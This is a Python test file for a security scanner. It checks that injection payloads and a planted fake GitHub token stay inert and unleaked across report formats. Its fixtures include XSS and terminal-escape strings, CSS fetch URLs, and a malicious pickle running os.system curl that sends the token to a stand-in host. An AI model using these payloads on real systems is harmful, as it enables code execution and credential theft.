"""Outputs class: scanned text that tries to act in the outputs. Rich markup, ANSI/OSC sequences and
control characters in file names and snippets; HTML/CSS/URL injection aimed at the HTML and PDF
reports (a local server records any fetch); and one secret planted in code, a notebook output, a
pickle string and a FILE NAME, then searched for in every output format."""

from __future__ import annotations

import http.server
import json
import re
import threading
import xml.etree.ElementTree as ET
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

import jsonschema
import pytest
from helpers import SARIF_SCHEMA

from hostile.conftest import Hostile, Run
from hostile.corpus import PICKLE_RULES, write
from hostile.outputs import ALL_OUTPUTS, texts

# a GitHub classic token shape with realistic entropy (not a real token)
SECRET = "ghp_Zq8wLm3Rt7Yx2Vb9Nc4Kd6Hf1Jg5Ps0Qa8Ue"
MIDDLE = SECRET[5:25]


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        _Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "text/css")
        self.end_headers()
        self.wfile.write(b"body{background:url(/bg.png)}")

    def log_message(self, *args: Any) -> None:
        pass


@pytest.fixture
def server() -> Iterator[str]:
    _Recorder.hits = []
    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    t = threading.Thread(target=httpd.serve_forever, daemon=True)
    t.start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()


class _Tags(HTMLParser):
    """Real tags, URL-valued attributes and style sheets of an HTML document (not its text)."""

    def __init__(self) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.urls: list[str] = []
        self.styles: list[str] = []
        self._in_style = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.add(tag)
        self._in_style = tag == "style"
        for k, v in attrs:
            if k in ("src", "href", "action", "data", "poster", "srcset") and v:
                self.urls.append(v)
            if k == "style" and v:
                self.styles.append(v)

    def handle_endtag(self, tag: str) -> None:
        self._in_style = False

    def handle_data(self, data: str) -> None:
        if self._in_style:
            self.styles.append(data)


def _injection_target(h: Hostile, url: str) -> None:
    names = ["[bold red]RICH[/bold red] [link=https://evil.example]x[/link].pkl",
             "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07.pkl", "\x1b[2J\x1b[1;1Hclear.pkl",
             "<script>alert(1)</script>.pkl", '"><img src=x onerror=alert(2)>.pkl', "ctl\x01\x02\x0b\x0c\x7f.pkl",
             "::error file=x::pwn.pkl", "{{7*7}}{%raw%}.pkl", "nul\u2028sep\ufffe.pkl"]
    for i, n in enumerate(names):
        write(h.root, n, h.canary.pickle(f"inj{i}"))
    line = (f'os.system("</style><script>alert(3)</script><link rel=stylesheet href={url}/a.css>'
            f'<img src={url}/b.png> @import url({url}/c.css); [red]markup[/red] \x1b[31mred\x1b[0m '
            f'\x1b]52;c;cHduZWQ=\x07 \x9b31m ]]> <![CDATA[ \x08\x1b[A")\n')
    write(h.root, "app.py", "import os\n" + line)
    write(h.root, "README.md", f"![x]({url}/readme.png) <iframe src={url}/frame></iframe>\n")


def _check_injection(run: Run, html_required: bool = True) -> None:
    assert _Recorder.hits == [], f"a report fetched {_Recorder.hits}"
    all_text = texts(run.outputs, run.stdout)
    # terminal: no escape sequence or C1 control reaches stdout/stderr; markup is printed literally
    for stream in (run.stdout, run.stderr):
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x9b]", stream), repr(stream[:300])
    assert "[bold red]RICH[/bold red]" in run.stdout
    # HTML: scanned text never becomes markup, and nothing points at the network
    html = all_text["r.html"]
    assert "<script>alert" not in html and "<img src=x" not in html and "<iframe" not in html
    tags = _Tags()
    tags.feed(html)
    assert "script" not in tags.names and "iframe" not in tags.names and "img" not in tags.names
    assert not [u for u in tags.urls if re.match(r"\s*(?:https?:|//|javascript:|file:)", u, re.I)], tags.urls
    for css in tags.styles:
        assert not re.search(r"(?:@import|url\()\s*['\"]?\s*(?:https?:|//|file:)", css, re.I), css[:200]
    # SARIF: valid JSON that validates against the 2.1.0 schema; JUnit: well-formed XML 1.0
    sarif = json.loads(all_text["r.sarif"])
    jsonschema.Draft7Validator(json.loads(SARIF_SCHEMA.read_text())).validate(sarif)
    ET.fromstring(run.outputs["r.xml"].read_bytes())
    json.loads(all_text["code-quality.json"])
    for name, text in all_text.items():
        assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, name
    # the payloads were still found and named
    assert run.rules_on("::error file=x::pwn.pkl") & PICKLE_RULES


def _check_secret(run: Run) -> None:
    found = {f["rule_id"] for f in run.open_findings()}
    assert "SECRET-GITHUB-001" in found
    assert run.rules_on("model.pkl") & PICKLE_RULES
    assert run.rules_on("ghp_****.pkl") & PICKLE_RULES, "the payload under a token-shaped name is reported"
    for name, text in texts(run.outputs, run.stdout + run.stderr).items():
        assert SECRET not in text and MIDDLE not in text, f"{name} leaks the secret"


def test_injection_and_secrets_stay_inert_in_every_format_but_pdf(hostile: Hostile, server: str) -> None:
    """One target with both attacks, every format except PDF (weasyprint takes ~10 s; see the slow test)."""
    _injection_target(hostile, server)
    _secret_target(hostile)
    run = hostile.scan(outputs=[o for o in ALL_OUTPUTS if not o.endswith(".pdf")], seconds=60)
    assert run.rc == 1
    _check_injection(run)
    _check_secret(run)


@pytest.mark.slow
def test_injection_and_secrets_stay_inert_in_the_pdf_too(hostile: Hostile, server: str) -> None:
    _injection_target(hostile, server)
    _secret_target(hostile)
    run = hostile.scan(outputs=ALL_OUTPUTS, seconds=120)
    assert run.rc == 1
    _check_injection(run)
    _check_secret(run)
    pdf = texts({"r.pdf": run.outputs["r.pdf"]}, "")["r.pdf"]
    assert "ghp_****" in pdf or "ghp_" not in pdf


def _secret_target(h: Hostile) -> None:
    write(h.root, "app.py", f'import os\nGITHUB_TOKEN = "{SECRET}"\nos.system("curl -u x:{SECRET} api")\n')
    nb = {"cells": [{"cell_type": "code", "execution_count": 1, "metadata": {}, "source": ["print(token)\n"],
                     "outputs": [{"output_type": "stream", "name": "stdout", "text": [f"token={SECRET}\n"]}]}],
          "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    write(h.root, "explore.ipynb", json.dumps(nb))
    from fixtures.generators import P

    pkl = (P.proto(2) + P.global_("os", "system") + P.MARK
           + P.unicode(f"curl -H 'Authorization: token {SECRET}' https://x; {h.canary.shell('secret_pkl')}")
           + P.TUPLE + P.REDUCE + P.STOP)
    write(h.root, "model.pkl", pkl)
    write(h.root, f"{SECRET}.pkl", h.canary.pickle("secret_name"))
    write(h.root, f"keys/{SECRET}/weights.bin", h.canary.pickle("secret_dir"))
    write(h.root, "requirements.txt", f"--extra-index-url https://user:{SECRET}@pypi.example/simple\nrequests==2.31.0\n")
